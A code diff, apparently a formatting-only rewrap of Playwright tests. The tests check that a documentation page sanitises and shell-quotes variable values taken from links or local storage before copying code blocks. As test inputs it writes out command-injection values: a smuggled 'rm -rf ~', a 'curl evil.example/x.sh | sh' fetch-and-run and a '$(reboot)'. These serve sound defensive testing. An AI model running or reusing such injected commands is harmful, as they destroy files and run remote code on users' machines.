@@ -15,7 +15,8 @@ const banner = (page: Page) => page.locator('[data-kb-link-banner]');
 const panel = (page: Page) => page.getByRole('region', { name: 'Your values' });
 const field = (page: Page, name: string) => panel(page).getByRole('textbox', { name: new RegExp(`^${name}\\b`) });
 const clipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText());
-const block = (page: Page, lang: string): Locator => page.locator('figure', { has: page.locator('figcaption', { hasText: lang }) }).first();
+const block = (page: Page, lang: string): Locator =>
+  page.locator('figure', { has: page.locator('figcaption', { hasText: lang }) }).first();
 const copyBlock = async (page: Page, lang = 'bash') => {
   await page.evaluate(() => navigator.clipboard.writeText('(clipboard before)'));
   await block(page, lang).getByRole('button').click();
@@ -33,7 +34,9 @@ test.describe('values from links are proposals and are quoted', () => {
   test('a link with carriage returns: stripped with a visible note, quoted in the copy', async ({ page }) => {
     await page.goto(`${ENTRY}?PLAIN=build%0D%7Brm,-rf,~%7D%0D`);
     await expect(banner(page)).toContainText('This link filled in values');
-    await expect(banner(page).locator('li')).toHaveText(/^PLAIN = build\{rm,-rf,~\} Removed invisible or control characters \(carriage return\)/);
+    await expect(banner(page).locator('li')).toHaveText(
+      /^PLAIN = build\{rm,-rf,~\} Removed invisible or control characters \(carriage return\)/,
+    );
     await expect(page.locator('[data-var="PLAIN"]').first()).toHaveAttribute('data-filled', 'link');
     await expect(page.locator('[data-var="PLAIN"]').first()).toHaveText('build{rm,-rf,~}');
     await copyBlock(page);
@@ -65,7 +68,9 @@ test.describe('values from links are proposals and are quoted', () => {
     await page.goto(`${ENTRY}?IMAGE_NAME=alpine%20%24(curl%20-s%20evil.example%2Fx.sh%20%7C%20sh)`);
     await expect(banner(page).locator('li')).toContainText('IMAGE_NAME = alpine $(curl -s evil.example/x.sh | sh)');
     await copyBlock(page);
-    await expect(messageAt(page)).toHaveText('Not copied: IMAGE_NAME is not in the expected format. Fix it under Your values.');
+    await expect(messageAt(page)).toHaveText(
+      'Not copied: IMAGE_NAME is not in the expected format. Fix it under Your values.',
+    );
     await expect(block(page, 'bash').getByRole('button')).toHaveText('Not copied');
     expect(await clipboard(page)).toBe('(clipboard before)');
     // A block that does not use the bad value still copies.
@@ -132,7 +137,9 @@ test.describe('values from links are proposals and are quoted', () => {
 
   test('an injected value already stored from an earlier visit is cleaned and quoted', async ({ page }) => {
     await page.goto(ENTRY);
-    await page.evaluate(() => localStorage.setItem('kb:variables', JSON.stringify({ PLAIN: 'build\r$(reboot)\u202e', TARGET_DIR: '~' })));
+    await page.evaluate(() =>
+      localStorage.setItem('kb:variables', JSON.stringify({ PLAIN: 'build\r$(reboot)\u202e', TARGET_DIR: '~' })),
+    );
     await page.goto(ENTRY);
     await expect(banner(page)).toHaveCount(0);
     await expect(field(page, 'PLAIN')).toHaveValue('build$(reboot)');
@@ -150,7 +157,8 @@ test.describe('values from links are proposals and are quoted', () => {
       const w = window as unknown as { kbEvents: number[] };
       w.kbEvents = [];
       new PerformanceObserver((list) => {
-        for (const e of list.getEntries()) if (e.name === 'keydown' || e.name === 'keyup' || e.name === 'keypress') w.kbEvents.push(e.duration);
+        for (const e of list.getEntries())
+          if (e.name === 'keydown' || e.name === 'keyup' || e.name === 'keypress') w.kbEvents.push(e.duration);
       }).observe({ type: 'event', durationThreshold: 16, buffered: false } as PerformanceObserverInit);
     });
     const times: number[] = [];
@@ -177,7 +185,10 @@ test.describe('values from links are proposals and are quoted', () => {
     const median = [...times].sort((a, b) => a - b)[Math.floor(times.length / 2)];
     expect(median).toBeLessThan(50);
     expect(Math.max(...times)).toBeLessThan(250);
-    test.info().annotations.push({ type: 'slow key events (ms)', description: slowEvents.map((d) => d.toFixed(0)).join(', ') || 'none' });
+    test.info().annotations.push({
+      type: 'slow key events (ms)',
+      description: slowEvents.map((d) => d.toFixed(0)).join(', ') || 'none',
+    });
   });
 
   test('the banner passes axe', async ({ page }) => {
